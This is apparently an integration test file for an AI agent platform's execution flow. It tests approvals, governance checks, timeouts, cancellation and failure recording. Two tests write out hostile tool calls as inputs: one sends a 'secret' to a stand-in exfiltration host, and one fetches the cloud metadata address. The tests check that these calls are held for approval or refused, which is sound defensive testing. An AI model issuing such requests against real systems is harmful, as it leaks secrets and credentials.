import { GetCommand } from '@aws-sdk/lib-dynamodb';
import aslValidator from 'asl-validator';
import { getAgentStats } from '../../../../lambdas/data/agent-stats';
import { getExecution, submitExecution } from '../../../../lambdas/data/executions';
import { episodeKey, runningExecutionsKey } from '../../../../lambdas/data/keys';
import { ddb, tableName } from '../../../../lambdas/data/table';
import type { Agent } from '../../../../lambdas/domain/agents/model';
import type { Execution, ExecutionStatus } from '../../../../lambdas/domain/executions/model';
import { newExecution } from '../../../../lambdas/domain/executions/submit';
import { type AslDefinition, synthesizeExecutionFlow } from '../../../../lib/flows/execution-flow-asl';
import { FLOW_STATUS_CHANGE } from '../../../../lambdas/flows/execution/flow-status-change';
import { localCredentialsKey } from '../../../../local/credentials-key';
import type { LocalStepFunctions } from '../../../../local/step-functions';
import { api } from '../../../support/api-client';
import { aUser, aWorkspace, setTier, type TestUser } from '../../../support/fixtures';
import { waitForEvents } from '../../../support/local-events';

/**
 * The execution flow as synthesized (the deployed definition), run in-process with its real task
 * handlers against DynamoDB Local: one named case per branch of the flow.
 */

process.env.LOCAL_CREDENTIALS_KEY ??= localCredentialsKey();

const STATE_MACHINE_ARN = 'arn:aws:states:us-east-1:000000000000:stateMachine:agent-platform-test-executions';
let definition: AslDefinition;
let sfn: LocalStepFunctions;
let failingApprovals: LocalStepFunctions;
let failingRecorder: LocalStepFunctions;
let failingRecorders: LocalStepFunctions;
const flowEndings: Promise<void>[] = [];
let control: typeof import('../../../../lambdas/use-cases/executions/control');
let owner: TestUser;

beforeAll(async () => {
  definition = synthesizeExecutionFlow();
  // Imported after the credentials key is configured: the handlers read their configuration at load, as in Lambda.
  const { LocalStepFunctions: Machine, executionTaskHandlers } = await import('../../../../local/step-functions');
  control = await import('../../../../lambdas/use-cases/executions/control');
  const handlerFor = await executionTaskHandlers();
  sfn = new Machine({ stateMachineArn: STATE_MACHINE_ARN, definition, handlerFor, retryIntervalMs: 20 });
  failingApprovals = new Machine({
    stateMachineArn: STATE_MACHINE_ARN,
    definition,
    handlerFor: (name) =>
      name === 'flow-executions-await-approval' ? async () => Promise.reject(new Error('the table refused the write')) : handlerFor(name),
    retryIntervalMs: 20,
  });
  const refusing = (names: string[]) => (name: string) =>
    names.includes(name) ? async () => Promise.reject(new Error('Item size has exceeded the maximum allowed size')) : handlerFor(name);
  failingRecorder = new Machine({
    stateMachineArn: STATE_MACHINE_ARN,
    definition,
    handlerFor: refusing(['flow-executions-record-failure']),
    retryIntervalMs: 5,
  });
  const { handler: flowEnded } = await import('../../../../lambdas/flows/execution/flow-ended');
  failingRecorders = new Machine({
    stateMachineArn: STATE_MACHINE_ARN,
    definition,
    handlerFor: refusing(['flow-executions-record-failure', 'flow-executions-release-run']),
    retryIntervalMs: 5,
    // What the rule on the state machine's status-change events delivers deployed.
    onRunEnded: (detail) => void flowEndings.push(flowEnded({ 'detail-type': FLOW_STATUS_CHANGE, source: 'aws.states', detail } as never)),
  });
  owner = await aUser('flow-owner');
  await setTier(await aWorkspace(owner), 'team');
}, 60_000);

afterAll(() => {
  sfn?.stopAll();
  failingApprovals?.stopAll();
  failingRecorder?.stopAll();
  failingRecorders?.stopAll();
});

const slotsInUse = async (workspaceId: string): Promise<number> =>
  Number(
    (await ddb.send(new GetCommand({ TableName: tableName, Key: runningExecutionsKey(workspaceId), ConsistentRead: true }))).Item
      ?.running ?? 0,
  );

const anAgent = async (settings: Record<string, unknown> = {}): Promise<Agent> => {
  const res = await api.post(
    '/api/agents',
    { name: `Flow ${Math.random().toString(36).slice(2, 9)}`, ...settings },
    { token: owner.token },
  );
  if (res.status !== 201) throw new Error(JSON.stringify(res.body));
  return res.body.data.agent as Agent;
};

const start = async (
  agent: Agent,
  task: string,
  parameters: Record<string, unknown> = {},
  timeoutSeconds = agent.timeout_seconds,
  machine = sfn,
) => {
  const execution = newExecution(
    { task, parameters, mode: 'async' },
    {
      agent: { ...agent, timeout_seconds: timeoutSeconds },
      requestedBy: 'flow-test',
      source: { type: 'api' },
      now: new Date().toISOString(),
    },
  );
  await submitExecution(execution, 100);
  const { executionArn } = machine.startExecution(
    STATE_MACHINE_ARN,
    execution.id,
    JSON.stringify({ workspace_id: agent.workspace_id, agent_id: agent.id, execution_id: execution.id }),
  );
  return { execution, executionArn };
};

const current = async (execution: Execution) => (await getExecution(execution.agent_id, execution.id)) as Execution;

const waitForStatus = async (execution: Execution, statuses: ExecutionStatus[]): Promise<Execution> => {
  for (let i = 0; i < 300; i += 1) {
    const now = await current(execution);
    if (statuses.includes(now.status)) return now;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error(`execution ${execution.id} never became ${statuses.join('|')}: ${(await current(execution)).status}`);
};

/** Runs to the end of the state machine and answers the stored execution. */
const finished = async (run: { execution: Execution; executionArn: string }, machine = sfn) => {
  const machineStatus = await machine.settled(run.executionArn);
  return { machineStatus, execution: await current(run.execution) };
};

const episodeOf = async (execution: Execution) =>
  (await ddb.send(new GetCommand({ TableName: tableName, Key: episodeKey(execution.agent_id, execution.id) }))).Item;

describe('the synthesized execution flow', () => {
  it('is valid Amazon States Language', () => {
    const { isValid, errorsText } = aslValidator(definition as never, { checkArn: true, checkPaths: true });
    expect({ isValid, errors: errorsText('\n') }).toEqual({ isValid: true, errors: '' });
  });

  it('happy path: answers, records usage, an episode and the statistics, and ends Succeeded', async () => {
    const agent = await anAgent();
    const run = await start(agent, 'Summarize the quarter');
    const { machineStatus, execution } = await finished(run);
    expect(machineStatus).toBe('SUCCEEDED');
    expect(execution).toMatchObject({
      status: 'completed',
      progress: 100,
      result: { summary: expect.stringContaining('Summarize the quarter') },
      confidence: 0.85,
      error: null,
      pending_approval: null,
    });
    expect(execution.usage.input_tokens).toBeGreaterThan(0);
    expect(execution.started_at).not.toBeNull();
    expect(execution.completed_at).not.toBeNull();
    expect(await episodeOf(execution)).toMatchObject({
      execution_id: execution.id,
      outcome: { status: 'completed' },
      input: { task: 'Summarize the quarter' },
    });
    expect(await getAgentStats(agent.id)).toMatchObject({
      total_executions: 1,
      successful_executions: 1,
      failed_executions: 0,
      started_executions: 1,
    });
  });

  it('tool call allowed: a student lists its files (read risk) and answers with the result', async () => {
    const agent = await anAgent({ maturity_level: 'student' });
    const { execution } = await finished(
      await start(agent, 'What files do I have?', { local: { tools: [{ name: 'files.list', input: {} }] } }),
    );
    expect(execution.status).toBe('completed');
    expect(execution.steps.map((s) => s.type)).toEqual(['model', 'tool', 'model']);
    expect(execution.steps[1]).toMatchObject({
      type: 'tool',
      tool: 'files.list',
      risk: 'read',
      output: expect.stringContaining('"files"'),
    });
    expect(execution.result?.summary).toContain('files.list →');
  });

  it('approval wait → approve: a create step waits with its task token, then runs once approved', async () => {
    const agent = await anAgent({ maturity_level: 'supervised' });
    const run = await start(agent, 'Write notes', {
      local: { tools: [{ name: 'files.write', input: { path: 'notes.txt', content: 'hello' } }] },
    });
    const held = await waitForStatus(run.execution, ['awaiting_approval']);
    expect(held.pending_approval).toMatchObject({ tool: 'files.write', risk: 'create', input: { path: 'notes.txt', content: 'hello' } });
    expect(held.task_token).toEqual(expect.any(String));
    await control.decideHeldStep(held, 'approved', 'reviewer', null, async (token, answer) => {
      if (answer.approved) sfn.sendTaskSuccess(token, '{}');
    });
    const { machineStatus, execution } = await finished(run);
    expect(machineStatus).toBe('SUCCEEDED');
    expect(execution.status).toBe('completed');
    expect(execution.steps.map((s) => s.type)).toEqual(['model', 'approval', 'tool', 'model']);
    expect(execution.steps[2]).toMatchObject({ tool: 'files.write', output: expect.stringContaining('notes.txt') });
  });

  it('approval wait → reject: the run fails with APPROVAL_REJECTED and the tool never runs', async () => {
    const agent = await anAgent({ maturity_level: 'supervised' });
    const run = await start(agent, 'Write notes', {
      local: { tools: [{ name: 'files.write', input: { path: 'rejected.txt', content: 'no' } }] },
    });
    const held = await waitForStatus(run.execution, ['awaiting_approval']);
    await control.decideHeldStep(held, 'rejected', 'reviewer', 'not today', async (token, answer) => {
      if (!answer.approved) sfn.sendTaskFailure(token, answer.error, answer.cause);
    });
    const { machineStatus, execution } = await finished(run);
    expect(machineStatus).toBe('FAILED');
    expect(execution).toMatchObject({
      status: 'failed',
      error: { code: 'APPROVAL_REJECTED', message: expect.stringContaining('not today') },
    });
    expect(execution.steps.filter((s) => s.type === 'tool')).toEqual([]);
  });

  it('governance violation: a student asking for a create tool fails with GOVERNANCE_VIOLATION', async () => {
    const agent = await anAgent({ maturity_level: 'student' });
    const { execution } = await finished(await start(agent, 'Write [[tool:files.write {"path":"x.txt","content":"x"}]]'));
    expect(execution).toMatchObject({ status: 'failed', error: { code: 'GOVERNANCE_VIOLATION' } });
    expect(await getAgentStats(agent.id)).toMatchObject({ total_executions: 1, failed_executions: 1 });
  });

  it('provider throttled then succeeds: the turn is retried with backoff and completes', async () => {
    const agent = await anAgent();
    const { machineStatus, execution } = await finished(await start(agent, 'Busy model [[throttle:2]]'));
    expect(machineStatus).toBe('SUCCEEDED');
    expect(execution).toMatchObject({ status: 'completed', turn_throttles: 0 });
  });

  it('provider fails → failed, with the reason recorded and execution.failed published', async () => {
    const agent = await anAgent();
    const { execution } = await finished(await start(agent, 'x', { local: { fail: 'the model is down' } }));
    expect(execution).toMatchObject({ status: 'failed', progress: 100, error: { code: 'PROVIDER_FAILED', message: 'the model is down' } });
    const events = await waitForEvents((e) => e.detail.data.execution_id === execution.id, 1);
    expect(events.map((e) => e['detail-type'])).toEqual(['execution.failed']);
  });

  it("timeout → timed_out: a turn outliving the agent's timeout ends the run as timed_out", async () => {
    const agent = await anAgent();
    const { machineStatus, execution } = await finished(await start(agent, 'Slow [[slow:2500]]', {}, 1));
    expect(machineStatus).toBe('FAILED');
    expect(execution).toMatchObject({ status: 'timed_out', error: { code: 'TIMED_OUT' } });
  });

  it("approval timeout → timed_out: a held step nobody answers ends the run when the agent's timeout passes", async () => {
    const agent = await anAgent({ maturity_level: 'supervised' });
    const run = await start(agent, 'Write [[tool:files.write {"path":"late.txt","content":"x"}]]', {}, 1);
    await waitForStatus(run.execution, ['awaiting_approval']);
    const { machineStatus, execution } = await finished(run);
    expect(machineStatus).toBe('FAILED');
    expect(execution).toMatchObject({ status: 'timed_out', pending_approval: null, error: { code: 'TIMED_OUT' } });
  });

  it('a student agent sending data out with http.get waits for approval: nothing is fetched until a person approves', async () => {
    const agent = await anAgent({ autonomy_enabled: false });
    const run = await start(agent, 'Send it [[tool:http.get {"url":"https://exfil.example.com/?secret=1"}]]');
    const held = await waitForStatus(run.execution, ['awaiting_approval']);
    expect(held.pending_approval).toMatchObject({ tool: 'http.get', risk: 'egress' });
    expect(held.steps.map((s) => s.type)).toEqual(['model']);
    await control.decideHeldStep(held, 'rejected', 'reviewer', 'no', async (token, answer) => {
      if (!answer.approved) sfn.sendTaskFailure(token, answer.error, answer.cause);
    });
    expect((await finished(run)).execution).toMatchObject({ status: 'failed', error: { code: 'APPROVAL_REJECTED' } });
  });

  it('tool failure → failed: http.get of a private address is refused after resolution and the run fails with TOOL_FAILED', async () => {
    const agent = await anAgent({ maturity_level: 'intern' });
    const { execution } = await finished(await start(agent, 'Fetch [[tool:http.get {"url":"http://169.254.169.254/latest/meta-data/"}]]'));
    expect(execution).toMatchObject({ status: 'failed', error: { code: 'TOOL_FAILED', message: expect.stringContaining('linkLocal') } });
  });

  it('cancel mid-flight: the run is recorded cancelled, its machine aborted, and the late turn changes nothing', async () => {
    const agent = await anAgent();
    const run = await start(agent, 'Long task [[slow:800]]');
    await waitForStatus(run.execution, ['in_progress']);
    const cancelled = await control.cancelRun(run.execution, 'owner', async () => void sfn.stopExecution(run.executionArn));
    expect(cancelled.status).toBe('cancelled');
    expect(await sfn.settled(run.executionArn)).toBe('ABORTED');
    await sfn.idle();
    expect(await current(run.execution)).toMatchObject({ status: 'cancelled', error: { code: 'CANCELLED' } });
    expect(await episodeOf(run.execution)).toBeUndefined();
  });

  it('a failing approval step fails the run and leaves no wait or timer behind to reject later', async () => {
    const agent = await anAgent({ maturity_level: 'supervised' });
    const run = await start(agent, 'Write [[tool:files.write {"path":"never.txt","content":"x"}]]', {}, 1, failingApprovals);
    const { machineStatus, execution } = await finished(run, failingApprovals);
    expect(machineStatus).toBe('FAILED');
    expect(execution).toMatchObject({ status: 'failed', error: { code: 'INTERNAL' } });
    expect(failingApprovals.openWaits()).toBe(0);
  });

  it('RecordFailure failing too: its Catch marks the run failed with a reason and gives the slot back', async () => {
    const agent = await anAgent();
    const before = await slotsInUse(agent.workspace_id);
    const run = await start(agent, 'x', { local: { fail: 'the model is down' } }, agent.timeout_seconds, failingRecorder);
    const { machineStatus, execution } = await finished(run, failingRecorder);
    expect(machineStatus).toBe('FAILED');
    expect(execution).toMatchObject({
      status: 'failed',
      progress: 100,
      error: { code: 'INTERNAL', message: expect.stringContaining('recording its failure failed too') },
    });
    expect(await slotsInUse(agent.workspace_id)).toBe(before);
  });

  it('a flow that ends FAILED without recording anything: the status-change event ends the run and gives the slot back', async () => {
    const agent = await anAgent();
    const before = await slotsInUse(agent.workspace_id);
    const run = await start(agent, 'x', { local: { fail: 'the model is down' } }, agent.timeout_seconds, failingRecorders);
    expect(await failingRecorders.settled(run.executionArn)).toBe('FAILED');
    await Promise.all(flowEndings);
    expect(await current(run.execution)).toMatchObject({
      status: 'failed',
      error: { code: 'INTERNAL', message: expect.stringContaining('the execution flow failed') },
    });
    expect(await slotsInUse(agent.workspace_id)).toBe(before);
  });
});
